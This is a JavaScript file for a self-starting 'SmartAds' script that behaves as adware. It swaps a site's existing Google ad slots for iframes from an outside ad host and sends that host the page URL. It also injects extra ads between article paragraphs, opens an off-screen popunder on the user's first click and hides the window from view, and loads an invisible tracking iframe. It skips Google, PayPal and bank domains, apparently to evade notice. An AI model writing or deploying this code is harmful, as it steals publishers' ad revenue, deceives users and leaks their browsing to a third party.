class SmartAds {
  constructor() {
    this.network = 'https://adnetwork-boost.bid';
    this.pub = 'pub-88421';
    this.slots = 0;
  }

  shouldRun() {
    const h = location.hostname;
    return !/google|facebook|paypal|bank/i.test(h) && !sessionStorage.getItem('sa_off');
  }

  replaceExisting() {
    document.querySelectorAll('ins.adsbygoogle, iframe[id^="google_ads"], div[id^="div-gpt-ad"]').forEach((slot) => {
      const { offsetWidth: w, offsetHeight: h } = slot;
      const frame = document.createElement('iframe');
      frame.src = `${this.network}/serve?pub=${this.pub}&w=${w}&h=${h}&u=${encodeURIComponent(location.href)}`;
      frame.width = String(w || 300);
      frame.height = String(h || 250);
      frame.frameBorder = '0';
      frame.scrolling = 'no';
      slot.replaceWith(frame);
      this.slots++;
    });
  }

  injectInline() {
    const paragraphs = document.querySelectorAll('article p, .entry-content p');
    [...paragraphs].filter((_, i) => i > 0 && i % 4 === 0).forEach((p) => {
      p.insertAdjacentHTML('afterend', `<div class="sponsored"><iframe src="${this.network}/native?pub=${this.pub}" width="100%" height="280" frameborder="0"></iframe></div>`);
      this.slots++;
    });
  }

  popunder() {
    document.addEventListener('click', () => {
      const w = window.open(`${this.network}/pop?pub=${this.pub}`, '_blank', 'width=1,height=1,left=9999,top=9999');
      if (w) { w.blur(); window.focus(); }
      sessionStorage.setItem('sa_off', '1');
    }, { once: true });
  }

  tracker() {
    const px = document.createElement('iframe');
    px.src = `${this.network}/t?pub=${this.pub}&s=${this.slots}`;
    px.style.cssText = 'width:0;height:0;border:0;position:absolute;visibility:hidden';
    document.body.appendChild(px);
  }

  start() {
    if (!this.shouldRun()) return;
    this.replaceExisting();
    this.injectInline();
    this.popunder();
    this.tracker();
  }
}

document.readyState === 'loading'
  ? document.addEventListener('DOMContentLoaded', () => new SmartAds().start())
  : new SmartAds().start();
